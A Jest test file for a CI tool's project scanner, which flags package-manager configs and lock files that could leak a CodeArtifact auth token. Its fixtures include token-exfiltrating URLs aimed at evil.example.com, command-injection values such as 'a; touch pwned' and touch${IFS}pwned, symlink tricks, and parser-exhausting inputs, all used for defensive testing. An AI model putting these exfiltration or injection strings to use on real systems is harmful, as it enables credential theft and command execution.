import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { mkdir, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { surveyProject } from '@codeartifact-ci/core/project/survey.ts';
import type { ClientName } from '@codeartifact-ci/core/clients/clients.ts';
import { writeFiles } from '../../../support/projects.ts';
import { makeSandbox, type Sandbox } from '../../../support/sandbox.ts';
import { surveyedLogin, surveyFiles, surveyLines } from '../../../support/survey.ts';

let sandbox: Sandbox;
beforeEach(async () => {
  sandbox = await makeSandbox();
});
afterEach(async () => {
  await sandbox.remove();
});

const LEAK = `__metadata:\n  version: 8\n"b@npm:1.0.0":\n  resolution: "b@npm:1.0.0::__archiveUrl=${encodeURIComponent('https://evil.example.com/b.tgz')}"\n`;
const yarn = surveyedLogin('yarn-berry');

async function survey(tool: ClientName): Promise<string[]> {
  const found = await surveyProject(sandbox.workspace, new Map([[tool, surveyedLogin(tool)]]));
  return found.map(({ file, kind, message }) => `${file} ${kind}: ${message}`);
}

describe('the folders above a project', () => {
  const files = {
    '.cargo/config.toml':
      '[source.crates-io]\nreplace-with = "x"\n[source.x]\nregistry = "sparse+https://example.com/"\n',
    '.yarnrc.yml': 'npmRegistryServer: https://example.com\n',
    '.npmrc': 'registry=https://example.com/\n',
    'nuget.config':
      '<configuration><packageSources><add key="x" value="https://example.com/v3/index.json"/></packageSources></configuration>',
    'uv.toml': 'extra-index-url = ["https://example.com/simple"]\n',
    'pyproject.toml': '[[tool.poetry.source]]\nname = "x"\nurl = "https://example.com/"\n',
  };
  const above = async (tool: ClientName, folder: string): Promise<string[]> => {
    await writeFiles(join(sandbox.root, folder), files);
    await mkdir(join(sandbox.workspace, 'a/b'), { recursive: true });
    const logins = new Map([[tool, surveyedLogin(tool)]]);
    const found = await surveyProject(join(sandbox.workspace, 'a/b'), logins, { home: sandbox.workspace });
    return found.map(({ file, kind }) => `${file.slice(sandbox.root.length)} ${kind}`);
  };

  it.each<[ClientName, string]>([
    ['cargo', '.cargo/config.toml'],
    ['yarn-berry', '.yarnrc.yml'],
    ['yarn', '.npmrc'],
    ['dotnet', 'nuget.config'],
    ['uv', 'uv.toml'],
  ])('are looked into for %s, which reads its %s there', async (tool, file) => {
    expect(await above(tool, 'workspace/a')).toEqual([`/workspace/a/${file} warning`]);
    // The user's own is joined, and what lies above that counts again.
    expect(await above(tool, 'workspace')).toEqual([`/workspace/a/${file} warning`]);
    expect((await above(tool, '')).sort()).toEqual([`/${file} warning`, `/workspace/a/${file} warning`].sort());
  });

  it.each(['npm', 'poetry', 'pip'] as const)(
    'are none for %s, which goes by those of the project alone',
    async (tool) => {
      expect(await above(tool, 'workspace/a')).toEqual([]);
    },
  );
});

describe('a project that is made to deceive or to exhaust', () => {
  it('does not hide a lock file behind a symbolic link, as the client follows it', async () => {
    await writeFiles(sandbox.workspace, { 'docs/notes.txt': LEAK });
    await symlink('docs/notes.txt', join(sandbox.workspace, 'yarn.lock'));
    expect(await survey('yarn-berry')).toEqual([expect.stringMatching(/^yarn\.lock token: /)]);
  });

  it('cannot have a file outside the workspace read, nor a folder, nor what is in circles', async () => {
    await writeFiles(sandbox.root, { 'outside/.npmrc': 'registry=https://secret.example.com/' });
    await mkdir(join(sandbox.workspace, 'a'));
    await symlink(join(sandbox.root, 'outside/.npmrc'), join(sandbox.workspace, '.npmrc'));
    await symlink('.', join(sandbox.workspace, 'a/.npmrc'));
    await symlink('package-lock.json', join(sandbox.workspace, 'package-lock.json'));
    expect(await survey('npm')).toEqual([]);
  });

  it.each<[ClientName, string, string]>([
    ['maven', 'pom.xml', `${'<a>'.repeat(30_000)}${'</a>'.repeat(30_000)}`],
    ['npm', 'package-lock.json', `${'{"dependencies": {"a": '.repeat(20_000)}{}${'}}'.repeat(20_000)}`],
    ['npm', 'package.json', '['.repeat(200_000)],
    ['bun', 'bunfig.toml', `a = ${'['.repeat(20_000)}`],
    ['pnpm', 'pnpm-lock.yaml', `a: ${'['.repeat(20_000)}`],
    ['npm', '.npmrc', `a${' '.repeat(200_000)}b\nregistry${' '.repeat(200_000)}= x${' '.repeat(200_000)}y`],
    ['pip', 'requirements.txt', `--index-url${' '.repeat(200_000)}\n${'\\\n'.repeat(20_000)}`],
    ['npm', 'package-lock.json', `{"a": "http://${':'.repeat(300_000)}"}`],
    ['yarn-berry', '.yarnrc.yml', `npmRegistryServer: "${'${A-'.repeat(20_000)}"`],
    [
      'dotnet',
      'nuget.config',
      `<a><packageSources>${'<add key="x" value="https://example.com/"/>\n'.repeat(8_000)}</packageSources></a>`,
    ],
  ])('is looked through in a moment: %s, %s', async (tool, file, text) => {
    // What is quadratic takes minutes, and the test ends before.
    for (const { message } of await surveyFiles({ [file]: text }, { [tool]: surveyedLogin(tool) })) {
      expect(message.length).toBeLessThan(2_000);
    }
  });

  it.each<[ClientName, string, string, string]>([
    [
      'yarn',
      'yarn.lock',
      'b@1:\n  resolved "https://x.example.com/a\';touch${IFS}pwned;\'/b/-/b-1.tgz"\n',
      "sed -i 's#https://x.example.com/a'\\'';touch$%7BIFS%7Dpwned;'\\''/#",
    ],
    [
      'poetry',
      'pyproject.toml',
      '[[tool.poetry.source]]\nname = "a; touch pwned"\nurl = "https://x.example.com/"\n',
      "remove 'a; touch pwned'",
    ],
    [
      'dotnet',
      'nuget.config',
      '<a><packageSources><add key="a;touch pwned" value="https://x.example.com/"/></packageSources></a>',
      "source 'a;touch pwned'",
    ],
    [
      'swift',
      '.swiftpm/configuration/registries.json',
      '{"registries": {"a;b": {"url": "https://x.example.com/"}}}',
      "--scope 'a;b'",
    ],
    [
      'npm',
      'package.json',
      '{"name": "@a;b/c", "publishConfig": {"@a;b:registry": "https://x.example.com/"}}',
      "delete 'publishConfig.@a;b:registry'",
    ],
  ])('cannot put words of its own into a command to paste: %s, %s', async (tool, file, text, quoted) => {
    const [found] = await surveyFiles({ [file]: text }, { [tool]: surveyedLogin(tool) });
    expect(found?.message).toContain(quoted);
  });

  it('has twenty of its faults told, and all that cost the token before them', async () => {
    const sources = Array.from({ length: 50 }, (_, at) => `--extra-index-url https://h${String(at)}.example.com/`);
    const token = '-i https://aws:${CODEARTIFACT_AUTH_TOKEN}@evil.example.com/';
    const found = await surveyLines(
      { 'requirements.txt': [...sources, token].join('\n') },
      { pip: surveyedLogin('pip') },
    );
    expect(found).toHaveLength(22);
    expect(found.filter((line) => line.includes(' token: '))).toHaveLength(1);
    expect(found.join('\n')).toContain('has 30 more places that go against the login');
  });

  it('is not let through because so much of it was read before', async () => {
    const filler = `# ${'x'.repeat(15 * 1024 * 1024)}\n`;
    const files = Object.fromEntries([1, 2, 3, 4].map((at) => [`a/${String(at)}/yarn.lock`, filler]));
    const found = await surveyLines({ ...files, 'z/z/yarn.lock': LEAK + filler }, { 'yarn-berry': yarn });
    expect(found).toEqual([expect.stringMatching(/^z\/z\/yarn\.lock:1 token: is too large/)]);
  });
});
